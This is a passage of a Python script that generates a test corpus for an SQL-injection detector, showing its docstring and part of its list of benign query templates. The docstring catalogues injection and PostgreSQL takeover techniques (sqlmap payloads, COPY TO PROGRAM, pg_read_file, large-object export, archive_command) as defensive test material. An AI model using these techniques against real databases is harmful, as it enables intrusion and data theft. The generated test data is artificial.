#!/usr/bin/env python3
"""Generator for the twelfth held-out sql-guard corpus (deterministic, stdlib only).

    python3 make_twelfth.py [OUTPUT]      # default: twelfth.jsonl.gz next to this file

Rows follow dev.jsonl's schema and family vocabulary (fields id, sql, label,
family, template, input, inputs, variant, dbms, multi_statement, split) in
about dev's proportions, with the bookkeeping of corpus_kit.py (as in
make_ninth.py to make_eleventh.py).  Written for generalization, so the
templates, payload lists and benign generators are new for this file:

* 70 application templates (`t12_<stack>_*`) on tables that none of the
  earlier corpora use (a volcano observatory, an opera wardrobe, ice-cream
  trucks, a violin workshop, glacier surveys, a tattoo studio, hot-air
  balloons, a perfumery, a bonsai nursery, an amateur-radio contest log, a
  fencing club, a sled-dog kennel, avalanche forecasting, lifeguards, a
  meteorite collection, a letterpress shop, a pinball arcade, tug dispatch,
  a puppet theatre, a fossil preparation lab, an aquarium, locksmiths), each
  written as the SQL text one stack sends after splicing a request parameter
  into it: Rails (`where("... #{q}")`, `order("#{sort} #{dir}")`), Django
  (`.extra(where=...)`, `.raw(f"...")`), Laravel (`whereRaw` / `orderByRaw`
  beside bound `$n` parameters, `DB::statement`), Spring (HQL concatenation
  as Hibernate 6 prints it, JdbcTemplate), EF Core on Npgsql (`FromSqlRaw($"...")`),
  Go (GORM `Where(fmt.Sprintf(...))`, sqlx, pgx), Node (knex.raw, Sequelize
  literals, Prisma `$queryRawUnsafe`, TypeORM query-builder strings), Rust
  (sqlx `format!`, Diesel `sql_query`), Elixir (`Ecto.Adapters.SQL.query!`
  with interpolation) and PHP PDO string building.  The input lands where
  such apps concatenate: ORDER BY column and direction, LIMIT/OFFSET, IN
  lists joined from ids, LIKE/ILIKE patterns, `->` / `->>` / jsonb_set /
  json_extract_path_text keys, a partition-table suffix and a column inside
  a quoted identifier, `SET search_path` / `SET LOCAL` / `SET ROLE`, a COPY
  ... TO filename, interval strings (`interval '{x}'`, `'{x}'::interval`,
  `interval '{x} days'`), `'{...}'` array literals, to_tsquery strings,
  `~` / `~*` patterns, a `$val$` dollar-quoted note, an E'' note, a bare
  schema-qualified table name and numeric ids without quotes;
* attack payloads of two kinds.  The sqlmap_* families are sqlmap requests
  rebuilt from its PostgreSQL payload XMLs (boolean_blind, time_blind,
  error_based, inline_query, stacked_queries, union_query: the WHERE/HAVING,
  parameter-replace, ORDER BY/GROUP BY, GENERATE_SERIES, CAST and stacked
  variants, the heavy-query and Glibc sleep tests), with detection
  inferences (`R=R`, `R=R1`) and enumeration inferences for --banner,
  --current-user, --is-dba, --users, --passwords, --privileges, --dbs,
  --tables, --columns, --count, --dump, --search and --statements
  (`ASCII(SUBSTRING((q)::text FROM n FOR 1))>m` with bisection values,
  length digits, CHR()-escaped strings and `qxxxq` markers), wrapped in its
  boundaries (quote and bracket prefixes, `AND 'x'='x` / `AND ('x' LIKE 'x`
  / `AND '%'='` suffixes, `-- Rand` comments, negative values for OR tests,
  the `'||(SELECT 'x' WHERE n=n ...)||'` concatenation boundary) -- mostly
  ones that fit the slot, sometimes not, as sqlmap probes them all -- plus
  the takeover statements of --os-cmd, --file-read, --file-write and
  --udf-inject, under 3 % of other back-ends' tests (MySQL, SQL Server,
  Oracle), and for one request in eight a tamper script (lowercase,
  uppercase, randomcomments, space2morecomment, multiplespaces,
  informationschemacomment, symboliclogical, bluecoat, space2mysqldash,
  nonrecursivereplacement).  The hand families are PostgreSQL techniques
  written for this file: tautologies (typed literals, ranges, jsonb `?`,
  SIMILAR TO, BETWEEN SYMMETRIC, ...), UNION arms reading pg_authid,
  pg_settings, pg_file_settings, pg_hba_file_rules, pg_stat_activity,
  pg_user_mappings, pg_subscription and information_schema, stacked ALTER
  ROLE / set_config('role') / SET SESSION AUTHORIZATION / CREATE
  PUBLICATION and SUBSCRIPTION / CREATE RULE / event triggers, CHR/ASCII/
  get_byte/`^@`/md5 inference, casts to int, numeric, regclass, regrole,
  regproc, uuid, json, jsonb, inet, macaddr, money, bit, tsquery and
  int[] for error leaks, pg_sleep inside CASE, COALESCE, NULLIF, greatest,
  LATERAL and array constructors, pg_sleep_for / pg_sleep_until, heavy
  generate_series, cross joins of pg_class and repeat(), COPY TO/FROM
  PROGRAM, pg_read_file / pg_read_binary_file / pg_ls_logdir /
  pg_ls_waldir / pg_stat_file, large objects (lo_import, lo_get, lo_put,
  lo_export, loread, lo_from_bytea), dblink and postgres_fdw, C-language
  functions, adminpack, ALTER SYSTEM archive_command and
  ssl_passphrase_command, DO blocks (format(), base64-decoded EXECUTE,
  loops, exception swallowing, `DO LANGUAGE plpgsql E'...'`), CREATE
  FUNCTION / PROCEDURE / TRIGGER in plpgsql, sql, plperlu and plpython3u,
  `$$` / `$tag$` strings, E'' hex, octal and \\u escapes, U&'' strings
  (also with UESCAPE) and a U&"" table name.  Breakouts close exactly the
  quote and brackets of their slot and end with `--` variants, `;--`,
  `/*` or `#` (the last two are habits from MySQL), or balance the
  template's own closing quote; a slot that is the lower bound of a BETWEEN
  gets an upper bound of its own first, one inside a VALUES row stays
  inside it.  Obfuscation rows reshape payloads outside their literals:
  tabs, newlines, CR, form feeds, random and alternating case, no spaces
  (parentheses instead), `/**/`, `/*word*/`, nested `/* /* */ */` and
  `--\\n` comments in place of spaces or before parentheses, now and then
  splitting a keyword (which PostgreSQL does not accept).  Comment
  truncation closes quoted, numeric, boolean, id-list and ORDER BY slots
  alike;
* benign rows from new input pools (names with apostrophes, SQL words,
  URLs and e-mails, JSON, long text, Unicode, whitespace, numbers as
  strings, typed values for the typed slots, identifiers), new complex
  generators (`cx12_*`: output of ActiveRecord, Django, Eloquent, Hibernate 6
  and Spring Data, EF Core, GORM, sqlc, Sequelize, Prisma, TypeORM, Drizzle,
  Diesel, SeaORM, Ecto and Doctrine; bound query builders (knex, squirrel,
  jOOQ, Arel, Ecto dynamic, Kysely, sea-query, SQLAlchemy core); driver
  introspection; the migration tables of Rails, Django, Laravel, EF Core,
  Flyway, knex, Prisma, Sequelize, Diesel, sqlx, Ecto and goose;
  CTE/window reports, set-operation reports, COPY headers, batch inserts,
  transactions, PL/pgSQL bodies, comments and hints, admin queries) and
  regression-test-style statements (`regress12:<file>.sql`).

Labelling: see corpus_kit.SlotCorpus; the five `escape_bypass_backslash`
rows are escaped the wrong way for their literal (addslashes into a
standard string, quote doubling only into E'').
Rows whose text occurs in one of the earlier corpora are skipped.

Checked once against PostgreSQL 15.18's raw parser (throwaway cluster, each
statement sent as `SELECT 1/0;` + statement in one simple query, so nothing
runs): every benign row parses; 1,108 of the 1,316 attacks parse and 208 do
not (115 are sqlmap requests whose boundary does not fit the slot -- a
condition after SET, a closed VALUES row or COPY subquery, an OR after a
BETWEEN bound, the wrong number of brackets --, 15 of them tampered; 19
more carry randomcomments or nonrecursivereplacement, which split or double
keywords; 33 end in an unterminated `/*` and 26 in MySQL's `#`; 14 are
other back-ends' vectors, 5 of them with MySQL's 0x hex literals; one
keyword is split by an inline comment).  There is no `parses` field, as in
the seventh to eleventh corpora.
"""
import base64, os, random, re, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_kit import (SlotCorpus, addslashes, bisection, by_template, chrs, closers, dollar_safe, double_quotes, identifier_input, kind,  # noqa: E402
                        load_earlier, marked, nulls, number_input, q, quoted_ident_breakout, randnum, rdate, registry, regress_list,
                        render, rstr, rts as ts, rword, strip_andor, text_input, typed_input, union_request, without_spaces)
import corpus_kit  # noqa: E402
from functools import partial  # noqa: E402

SEED = 12121212
HERE = os.path.dirname(os.path.abspath(__file__))
EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth", "ninth", "tenth", "eleventh")
PG = "PostgreSQL"

# ---------------------------------------------------------------- application templates
# Each template is the statement one stack sends after splicing request
# parameters into its SQL text (the stack is the second part of the name).
# Slot types: q '...', e E'...', d $val$...$val$, qi "...", n number, bool,
# list (numbers joined with commas), col (ORDER BY column or expression list),
# dir (ASC/DESC), ident (bare identifier).  A third element "typed:KIND" says the
# literal is read as a value of that kind (date, ts, time, interval, days,
# tsquery, fname, duration, json, suffix): benign fills are values of that kind
# only.  A fourth element overrides what closes the slot for a breakout.
T = [
 # volcano observatory -- Go: GORM with Where(fmt.Sprintf(...)) / sqlx with fmt.Sprintf
 ("t12_gorm_volcano_quakes", "SELECT * FROM \"volcano_quakes\" WHERE (volcano_code = '{a}' AND magnitude >= {b}) AND \"volcano_quakes\".\"deleted_at\" IS NULL ORDER BY {c} LIMIT {d}",
  {"a": ("q", ["ETNA", "KILAUEA"]), "b": ("n", ["2.5", "1"]), "c": ("col", ["origin_time desc", "magnitude desc", "depth_km"]), "d": ("n", ["50", "200"])}),
 ("t12_sqlx_volcano_gas", "SELECT station_id, so2_tonnes_day, measured_at FROM gas_flux_readings WHERE station_id = ANY('{{a}}'::text[]) AND measured_at > now() - interval '{b}' ORDER BY measured_at DESC",
  {"a": ("q", ["FUM-N,FUM-S", "CRATER-E"]), "b": ("q", ["6 hours", "3 days"], "typed:interval")}),
 ("t12_sqlx_volcano_tilt", "SELECT sensor_id, avg(microradians) AS mean_tilt FROM \"tilt_readings_{a}\" WHERE sensor_id IN ({b}) GROUP BY sensor_id ORDER BY sensor_id",
  {"a": ("qi", ["2025_03", "2024_11"], "typed:suffix"), "b": ("list", ["14, 15, 22", "7"])}),
 ("t12_gorm_volcano_alert", "UPDATE \"volcano_alert_levels\" SET \"level\"='{a}',\"issued_by\"='{b}',\"updated_at\"=now() WHERE volcano_code = '{c}' AND \"volcano_alert_levels\".\"deleted_at\" IS NULL",
  {"a": ("q", ["ORANGE", "YELLOW"]), "b": ("q", ["duty.volcanologist", "m.tanaka"]), "c": ("q", ["ETNA", "SAKURAJIMA"])}),
 # opera wardrobe -- Django: .extra(where=[f"..."]) and .raw(f"...")
 ("t12_django_wig_fittings", "SELECT \"wardrobe_wigfitting\".\"id\", \"wardrobe_wigfitting\".\"performer\", \"wardrobe_wigfitting\".\"fitting_at\" FROM \"wardrobe_wigfitting\" WHERE (production = '{a}') ORDER BY \"wardrobe_wigfitting\".\"fitting_at\" ASC",
  {"a": ("q", ["Tosca 2025", "Die Zauberflöte"])}),
 ("t12_django_garment_alter", "SELECT id, garment_tag, size_label FROM wardrobe_garment WHERE size_label = '{a}' AND alterations -> '{b}' IS NOT NULL ORDER BY garment_tag",
  {"a": ("q", ["EU 40", "bespoke"]), "b": ("q", ["hem", "waist_cm"])}),
 ("t12_django_costume_order", "SELECT \"wardrobe_garment\".\"id\", \"wardrobe_garment\".\"garment_tag\" FROM \"wardrobe_garment\" WHERE \"wardrobe_garment\".\"production_id\" = {a} ORDER BY {b} {c}",
  {"a": ("n", ["17", "204"]), "b": ("col", ["garment_tag", "last_cleaned_on", "size_label"]), "c": ("dir", ["ASC", "DESC"])}),
 # ice-cream trucks -- Node: knex.raw / whereRaw with template strings
 ("t12_knex_truck_stops", "select \"stop_id\", \"street\", \"arrives_at\" from \"truck_route_stops\" where \"route_code\" = '{a}' and arrives_at::time between '{b}' and '{c}' order by \"arrives_at\" asc",
  {"a": ("q", ["R7-SEAFRONT", "PARKS-LOOP"]), "b": ("q", ["13:00", "15:30"], "typed:time"), "c": ("q", ["17:00", "19:45"], "typed:time")}),
 ("t12_knex_flavour_stock", "select * from \"truck_flavour_stock\" where \"truck_id\" = {a} and flavour ilike '%{b}%' and scoops_left < {c}",
  {"a": ("n", ["12", "3"]), "b": ("q", ["pistachio", "salted caramel"]), "c": ("n", ["40", "15"])}),
 ("t12_knex_chime_tune", "update \"truck_chimes\" set \"tune_name\" = '{a}', \"volume_pct\" = {b} where \"truck_id\" = {c} returning \"truck_id\", \"tune_name\"",
  {"a": ("q", ["Greensleeves", "Turkey in the Straw"]), "b": ("n", ["60", "85"]), "c": ("n", ["12", "3"])}),
 # violin making -- Rails: where("... #{params[...]}") and order("#{sort} #{dir}")
 ("t12_rails_tonewood", "SELECT \"tonewood_billets\".* FROM \"tonewood_billets\" WHERE \"tonewood_billets\".\"workshop_id\" = 3 AND (species = '{a}' AND seasoned_years >= {b}) ORDER BY {c} {d} LIMIT 20 OFFSET {e}",
  {"a": ("q", ["Picea abies", "Acer pseudoplatanus"]), "b": ("n", ["10", "25"]), "c": ("col", ["seasoned_years", "billet_no", "density_kg_m3"]), "d": ("dir", ["DESC", "ASC"]), "e": ("n", ["0", "40"])}),
 ("t12_rails_varnish", "SELECT \"varnish_coats\".* FROM \"varnish_coats\" WHERE (instrument_serial LIKE '{a}%') ORDER BY \"varnish_coats\".\"applied_at\" DESC",
  {"a": ("q", ["VN-2025-", "VA-31"])}),
 ("t12_rails_repair_tags", "SELECT \"luthier_repairs\".* FROM \"luthier_repairs\" WHERE \"luthier_repairs\".\"closed_at\" IS NULL AND (tags @> '{{a}}') ORDER BY \"luthier_repairs\".\"opened_at\" ASC",
  {"a": ("q", ["crack,top", "bridge"])}),
 # glacier surveys -- Rust: sqlx::query(&format!(...)) and diesel::sql_query(format!(...))
 ("t12_rsqlx_ablation", "SELECT stake_id, melt_cm, surveyed_on FROM ablation_stakes WHERE glacier_id = {a} AND surveyed_on >= '{b}'::date ORDER BY {c}",
  {"a": ("n", ["41", "7"]), "b": ("q", ["2025-06-01", "2024-09-15"], "typed:date"), "c": ("col", ["surveyed_on", "melt_cm DESC", "stake_id"])}),
 ("t12_diesel_crevasses", "SELECT crevasse_id, width_m, observed_on FROM crevasse_observations WHERE glacier_id = {a} AND width_m > {b} AND observed_by = '{c}'",
  {"a": ("n", ["41", "7"]), "b": ("n", ["0.5", "2"]), "c": ("q", ["I. Sigurdsdottir", "survey team B"])}),
 ("t12_rsqlx_expedition_path", "SET search_path TO \"{a}\", public",
  {"a": ("qi", ["exp_vatnajokull_2025", "exp_aletsch"])}),
 ("t12_diesel_mass_balance", "SELECT hydrological_year, sum(balance_mwe) OVER (ORDER BY hydrological_year) AS cumulative FROM glacier_mass_balance WHERE glacier_id = {a} AND hydrological_year BETWEEN {b} AND {c}",
  {"a": ("n", ["41", "7"]), "b": ("n", ["1990", "2005"]), "c": ("n", ["2024", "2015"])}),
 # tattoo studio -- Laravel: whereRaw / orderByRaw beside bound $n parameters
 ("t12_laravel_tattoo_bookings", "select * from \"tattoo_bookings\" where \"studio_id\" = $1 and artist_handle ilike '%{a}%' and \"tattoo_bookings\".\"deleted_at\" is null order by {b} {c} limit 15",
  {"a": ("q", ["inkwell_rosa", "dot"]), "b": ("col", ["starts_at", "deposit_cents", "artist_handle"]), "c": ("dir", ["asc", "desc"])}),
 ("t12_laravel_ink_lots", "update \"ink_lots\" set \"quarantined\" = true, \"updated_at\" = $1 where lot_code in ('{a}', '{b}')",
  {"a": ("q", ["DYN-BLK-2207", "ETERNAL-R-19"]), "b": ("q", ["KURO-0931", "WFC-44A"])}),
 ("t12_laravel_consent", "select \"consent_forms\".* from \"consent_forms\" where \"client_email\" = '{a}' and signed_at > now() - interval '{b} days'",
  {"a": ("q", ["sam.k@example.com", "lee@tattoo.example"]), "b": ("q", ["30", "365"], "typed:days")}),
 # hot-air ballooning -- Spring: HQL concatenation (Hibernate 6 SQL) and JdbcTemplate
 ("t12_hibernate_balloon_flights", "select f1_0.id,f1_0.envelope_reg,f1_0.launch_site,f1_0.launched_at from balloon_flights f1_0 where f1_0.launch_site='{a}' and f1_0.passengers<={b} order by f1_0.launched_at desc",
  {"a": ("q", ["Château-d'Oex", "Bristol Ashton Court"]), "b": ("n", ["8", "16"])}),
 ("t12_jdbc_envelope_checks", "SELECT inspection_id, porosity_s, grab_test_kg FROM envelope_inspections WHERE envelope_reg = '{a}' AND porosity_s < {b} ORDER BY inspected_on DESC",
  {"a": ("q", ["G-BXLP", "D-OKAY"]), "b": ("n", ["20", "45"])}),
 ("t12_jdbc_launch_sites", "SELECT site_id, site_name, max_wind_kt FROM launch_sites WHERE site_id IN ({a}) ORDER BY {b}",
  {"a": ("list", ["4, 9, 12", "31"]), "b": ("col", ["site_name", "max_wind_kt DESC", "site_id"])}),
 # perfumery -- Entity Framework Core on Npgsql: FromSqlRaw($"...")
 ("t12_efcore_accords", "SELECT a.\"Id\", a.\"AccordName\", a.\"TopNotes\" FROM \"Accords\" AS a WHERE a.\"Family\" = '{a}' AND a.\"TopNotes\" && '{{b}}'::text[]",
  {"a": ("q", ["chypre", "fougère"]), "b": ("q", ["bergamot,neroli", "pink pepper"])}),
 ("t12_efcore_materials", "SELECT m.\"Id\", m.\"CasNumber\", m.\"Name\" FROM \"RawMaterials\" AS m WHERE m.\"Name\" ~* '{a}' ORDER BY m.\"{b}\"",
  {"a": ("q", ["^iso e", "musk|amber"]), "b": ("qi", ["Name", "CasNumber"])}),
 ("t12_efcore_formula_note", "UPDATE \"Formulas\" SET \"Notes\" = E'{a}', \"Revision\" = \"Revision\" + 1 WHERE \"Id\" = {b}",
  {"a": ("e", ["less hedione, +2% iris", "trial 3\\nfixative ok"]), "b": ("n", ["1184", "27"])}),
 ("t12_npgsql_tenant", "SET LOCAL search_path = \"{a}\", \"$user\", public",
  {"a": ("qi", ["atelier_grasse", "atelier_paris_3"])}),
 # bonsai nursery -- Node: Prisma $queryRawUnsafe(`...${}`)
 ("t12_prisma_bonsai_stock", "SELECT \"id\", \"species\", \"style\", \"ageYears\" FROM \"BonsaiTree\" WHERE \"style\" = '{a}' AND \"ageYears\" BETWEEN {b} AND {c} ORDER BY \"{d}\" {e} LIMIT 24",
  {"a": ("q", ["moyogi", "literati"]), "b": ("n", ["5", "20"]), "c": ("n", ["30", "80"]), "d": ("qi", ["ageYears", "species"]), "e": ("dir", ["ASC", "DESC"])}),
 ("t12_prisma_repotting", "SELECT * FROM \"RepottingLog\" WHERE \"treeId\" = {a} AND \"soilMix\" ->> '{b}' IS NOT NULL ORDER BY \"repottedAt\" DESC",
  {"a": ("n", ["88", "1203"]), "b": ("q", ["akadama", "pumice_pct"])}),
 ("t12_prisma_wiring", "SELECT \"treeId\", \"wiredOn\", \"removeBy\" FROM \"WiringJob\" WHERE \"removeBy\" < now() + '{a}'::interval AND \"wireGauge\" = {b}",
  {"a": ("q", ["14 days", "2 weeks"], "typed:interval"), "b": ("n", ["2.5", "1"])}),
 # amateur radio contest log -- Elixir: Ecto.Adapters.SQL.query!(Repo, "... #{...}")
 ("t12_ecto_qso_log", "SELECT q0.\"callsign\", q0.\"band\", q0.\"mode\", q0.\"logged_at\" FROM \"qso_log\" AS q0 WHERE (q0.\"contest_id\" = {a}) AND (q0.\"callsign\" LIKE '{b}%') ORDER BY q0.\"logged_at\" DESC",
  {"a": ("n", ["2025", "311"]), "b": ("q", ["DL1", "JA7"])}),
 ("t12_ecto_dxcc", "SELECT prefix, entity_name FROM dxcc_entities WHERE '{a}' ~ ('^' || prefix_regex) ORDER BY length(prefix) DESC LIMIT 1",
  {"a": ("q", ["VK9XX", "EA8/G4ABC"])}),
 ("t12_ecto_band_stats", "SELECT band, count(*) AS qsos FROM qso_log WHERE contest_id = {a} AND logged_at >= '{b}'::timestamptz GROUP BY band HAVING count(*) > {c} ORDER BY qsos DESC",
  {"a": ("n", ["2025", "311"]), "b": ("q", ["2025-10-25 00:00", "2024-11-30 12:00+00"], "typed:ts"), "c": ("n", ["10", "100"])}),
 # fencing club -- PHP: PDO::query("... '$x' ...")
 ("t12_pdo_fencing_bouts", "SELECT bout_id, fencer_a, fencer_b, score_a, score_b FROM fencing_bouts WHERE weapon = '{a}' AND pool_no = {b} ORDER BY {c}",
  {"a": ("q", ["sabre", "épée"]), "b": ("n", ["3", "12"]), "c": ("col", ["bout_id", "score_a DESC", "fencer_a, fencer_b"])}),
 ("t12_pdo_fencer_search", "SELECT licence_no, surname, club FROM fencers WHERE surname ILIKE '{a}%' OR club = '{b}' LIMIT {c}",
  {"a": ("q", ["Montano", "van der"]), "b": ("q", ["Salle Boston", "Brixton FC"]), "c": ("n", ["25", "100"])}),
 ("t12_pdo_armoury_loan", "INSERT INTO armoury_loans (item_tag, fencer_licence, due_back) VALUES ('{a}', '{b}', current_date + {c})",
  {"a": ("q", ["MASK-L-07", "LAME-F-22"]), "b": ("q", ["BF-104233", "FFE-88120"]), "c": ("n", ["7", "14"])}),
 # sled dog kennel -- Node: Sequelize with sequelize.literal() / where: sequelize.literal
 ("t12_sequelize_sled_dogs", "SELECT \"id\", \"name\", \"harnessSize\", \"teamPosition\" FROM \"SledDogs\" AS \"SledDog\" WHERE \"SledDog\".\"kennelId\" = {a} AND (lower(name) LIKE '%{b}%') ORDER BY {c} LIMIT {d};",
  {"a": ("n", ["4", "19"]), "b": ("q", ["juneau", "aurora"]), "c": ("col", ["\"name\" ASC", "\"teamPosition\"", "\"harnessSize\" DESC"]), "d": ("n", ["20", "60"])}),
 ("t12_sequelize_mileage", "SELECT \"dogId\", sum(\"km\") AS \"total\" FROM \"TrainingRuns\" AS \"TrainingRun\" WHERE \"TrainingRun\".\"ranOn\" >= '{a}' GROUP BY \"dogId\" HAVING sum(\"km\") > {b};",
  {"a": ("q", ["2025-11-01", "2024-12-15"], "typed:date"), "b": ("n", ["150", "40"])}),
 ("t12_sequelize_booties", "UPDATE \"BootieStocks\" SET \"count\"=\"count\" - {a},\"updatedAt\"=now() WHERE \"size\" = '{b}' AND \"kennelId\" = {c}",
  {"a": ("n", ["16", "4"]), "b": ("q", ["M", "XL-wide"]), "c": ("n", ["4", "19"])}),
 # avalanche forecasting -- Node: TypeORM createQueryBuilder().where(`...${}`)
 ("t12_typeorm_bulletins", "SELECT \"b\".\"id\" AS \"b_id\", \"b\".\"zone_code\" AS \"b_zone_code\", \"b\".\"danger_level\" AS \"b_danger_level\" FROM \"avalanche_bulletins\" \"b\" WHERE b.zone_code = '{a}' AND b.issued_at::date = '{b}' ORDER BY \"b\".\"issued_at\" DESC",
  {"a": ("q", ["CH-4113", "LOCHABER"]), "b": ("q", ["2025-01-17", "2024-02-29"], "typed:date")}),
 ("t12_typeorm_snowpits", "SELECT \"p\".\"pit_id\" AS \"p_pit_id\", \"p\".\"aspect\" AS \"p_aspect\", \"p\".\"ect_result\" AS \"p_ect_result\" FROM \"snow_pits\" \"p\" WHERE p.aspect IN ('{a}', '{b}') AND p.elevation_m >= {c}",
  {"a": ("q", ["N", "NE"]), "b": ("q", ["NW", "E"]), "c": ("n", ["1800", "2400"])}),
 ("t12_typeorm_obs_search", "SELECT \"o\".\"id\", \"o\".\"summary\" FROM \"field_observations\" \"o\" WHERE to_tsvector('english', o.summary) @@ to_tsquery('english', '{a}') ORDER BY \"o\".\"observed_at\" DESC LIMIT {b}",
  {"a": ("q", ["whumpf & crack", "slab:*"], "typed:tsquery"), "b": ("n", ["20", "5"])}),
 # lifeguard service -- Go: pgx with fmt.Sprintf, GORM Where(...)
 ("t12_pgx_tower_shifts", "SELECT tower_no, guard_id, shift_start FROM lifeguard_shifts WHERE beach = '{a}' AND shift_start::date = '{b}' ORDER BY tower_no",
  {"a": ("q", ["Bondi North", "Praia do Guincho"]), "b": ("q", ["2025-07-04", "2024-08-18"], "typed:date")}),
 ("t12_gorm_rescues", "SELECT * FROM \"rescue_reports\" WHERE beach = '{a}' AND rip_current = {b} AND \"rescue_reports\".\"deleted_at\" IS NULL ORDER BY reported_at desc LIMIT {c} OFFSET {d}",
  {"a": ("q", ["Bondi North", "Fistral"]), "b": ("bool", ["true", "false"]), "c": ("n", ["10", "50"]), "d": ("n", ["0", "30"])}),
 ("t12_pgx_flags", "UPDATE beach_flags SET flag_colour = '{a}', set_by = '{b}', set_at = now() WHERE beach = '{c}'",
  {"a": ("q", ["red", "yellow-red"]), "b": ("q", ["tower 3", "J. Okafor"]), "c": ("q", ["Fistral", "Praia do Guincho"])}),
 ("t12_pgx_set_role", "SET ROLE {a}",
  {"a": ("ident", ["lifeguard_reader", "beach_admin"])}),
 # meteorite collection -- Django: Model.objects.raw(f"...")
 ("t12_django_meteorites", "SELECT id, name, classification, mass_g FROM meteorites_specimen WHERE classification ~* '{a}' AND mass_g >= {b} ORDER BY {c}",
  {"a": ("q", ["^H[3-6]", "pallasite"]), "b": ("n", ["10", "250.5"]), "c": ("col", ["mass_g DESC", "name", "classification, mass_g"])}),
 ("t12_django_find_years", "SELECT name, found_year, country FROM meteorites_specimen WHERE found_year BETWEEN {a} AND {b} AND country = '{c}' ORDER BY found_year",
  {"a": ("n", ["1900", "1969"]), "b": ("n", ["1950", "2024"]), "c": ("q", ["Morocco", "Antarctica"])}),
 ("t12_django_loan_return", "UPDATE meteorites_loan SET returned_on = '{a}'::date, condition_note = '{b}' WHERE loan_ref = '{c}'",
  {"a": ("q", ["2025-03-14", "2024-12-02"], "typed:date"), "b": ("q", ["fusion crust intact", "small chip on edge"]), "c": ("q", ["ML-2024-07", "ML-0091"])}),
 # letterpress print shop -- Laravel: DB::select / DB::statement with "{$x}"
 ("t12_laravel_type_cases", "select * from \"type_cases\" where \"typeface\" = '{a}' and \"point_size\" in ({b}) order by \"drawer_no\" asc",
  {"a": ("q", ["Caslon 540", "Gill Sans Bold"]), "b": ("list", ["10, 12, 18", "36"])}),
 ("t12_laravel_print_specs", "select \"job_no\", \"client\", \"paper_stock\" from \"print_jobs\" where json_extract_path_text(specs, '{a}') = '{b}'",
  {"a": ("q", ["ink", "sheet_size"]), "b": ("q", ["PMS 186", "A5"])}),
 ("t12_laravel_export_copy", "COPY (SELECT job_no, client, run_size FROM print_jobs WHERE finished_on >= '{a}') TO '/srv/letterpress/exports/{b}.csv' WITH (FORMAT csv, HEADER)",
  {"a": ("q", ["2025-01-01", "2024-07-01"], "typed:date", ") TO STDOUT"), "b": ("q", ["jobs_2025_q1", "weekly-run"], "typed:fname")}),
 # pinball arcade -- Node: knex.raw with ${}
 ("t12_knex_pinball_audits", "select \"machine_serial\", \"plays\", \"coin_cents\" from \"pinball_audits\" where \"audited_on\" = '{a}' and \"title\" ilike '{b}' order by {c} {d}",
  {"a": ("q", ["2025-05-31", "2024-12-31"], "typed:date"), "b": ("q", ["Medieval%", "%Addams%"]), "c": ("col", ["plays", "coin_cents", "machine_serial"]), "d": ("dir", ["desc", "asc"])}),
 ("t12_knex_high_scores", "select initials, score, set_at from pinball_scores where machine_serial = '{a}' and score > {b} order by score desc limit {c}",
  {"a": ("q", ["AFM-50123", "TZ-0419"]), "b": ("n", ["1000000", "250000000"]), "c": ("n", ["10", "3"])}),
 ("t12_knex_pinball_settings", "update pinball_settings set settings = jsonb_set(settings, '{{a}}', '{b}'::jsonb) where machine_serial = '{c}'",
  {"a": ("q", ["tilt,warnings", "balls_per_game"]), "b": ("q", ["3", "\"strict\""], "typed:json"), "c": ("q", ["AFM-50123", "TZ-0419"])}),
 # tug dispatch -- Spring: JdbcTemplate.query("..." + param + "...")
 ("t12_jdbc_tug_jobs", "SELECT job_id, vessel_name, berth, eta FROM tug_jobs WHERE port_code = '{a}' AND eta BETWEEN now() AND now() + INTERVAL '{b}' ORDER BY eta",
  {"a": ("q", ["NLRTM", "GBSOU"]), "b": ("q", ["12 hours", "2 days"], "typed:interval")}),
 ("t12_jdbc_tug_assign", "UPDATE tug_jobs SET tug_name = '{a}', assigned_by = '{b}' WHERE job_id = {c} AND status = 'open'",
  {"a": ("q", ["Smit Polen", "Svitzer Kent"]), "b": ("q", ["dispatch.night", "r.de.vries"]), "c": ("n", ["88123", "415"])}),
 ("t12_jdbc_marine_pilots", "SELECT pilot_id, full_name, licence_class FROM marine_pilots WHERE licence_class = '{a}' AND max_draught_m >= {b} AND on_duty ORDER BY full_name",
  {"a": ("q", ["A", "B-restricted"]), "b": ("n", ["14.5", "9"])}),
 # puppet theatre -- Rails: where("name ILIKE '%#{q}%' OR maker ILIKE '%#{q}%'")
 ("t12_rails_puppets", "SELECT \"puppets\".* FROM \"puppets\" WHERE (name ILIKE '%{a}%' OR maker ILIKE '%{a}%') ORDER BY \"puppets\".\"name\" ASC",
  {"a": ("q", ["Punch", "Bunraku"])}),
 ("t12_rails_show_seats", "SELECT \"show_seats\".* FROM \"show_seats\" WHERE \"show_seats\".\"performance_id\" = {a} AND (row_letter = '{b}') ORDER BY \"show_seats\".\"seat_no\" ASC",
  {"a": ("n", ["5512", "90"]), "b": ("q", ["C", "AA"])}),
 ("t12_rails_puppet_ids", "SELECT \"puppets\".\"id\" FROM \"puppets\" WHERE \"puppets\".\"id\" IN ({a}) AND (condition <> '{b}')",
  {"a": ("list", ["3, 8, 21", "144"]), "b": ("q", ["retired", "in repair"])}),
 # fossil preparation lab -- Rust: diesel::sql_query(format!(...)) / sqlx
 ("t12_diesel_specimens", "SELECT specimen_no, taxon, matrix FROM fossil_specimens WHERE formation = '{a}' AND prep_hours > {b} ORDER BY {c} {d}",
  {"a": ("q", ["Morrison", "Hell Creek"]), "b": ("n", ["40", "120"]), "c": ("col", ["prep_hours", "specimen_no", "taxon"]), "d": ("dir", ["DESC", "ASC"])}),
 ("t12_rsqlx_prep_notes", "INSERT INTO prep_notes (specimen_no, note, written_by) VALUES ('{a}', $val${b}$val$, '{c}') RETURNING note_id",
  {"a": ("q", ["MOR-1123", "HC-0042"]), "b": ("d", ["consolidated left femur with B-72", "air scribe on matrix, 3 h"]), "c": ("q", ["preparator.kim", "volunteer 7"])}),
 ("t12_rsqlx_consolidant", "SELECT batch_no, consolidant, mix_pct FROM consolidant_batches WHERE mixed_at > now() - '{a}'::interval AND consolidant = '{b}'",
  {"a": ("q", ["30 days", "1 week"], "typed:interval"), "b": ("q", ["Paraloid B-72", "Butvar B-76"])}),
 # aquarium husbandry -- Elixir: Ecto.Adapters.SQL.query!/2 with interpolation
 ("t12_ecto_tank_readings", "SELECT t0.\"tank_code\", t0.\"ph\", t0.\"nitrate_ppm\" FROM \"tank_readings\" AS t0 WHERE (t0.\"tank_code\" = '{a}') AND (t0.\"read_at\" > now() - interval '{b}')",
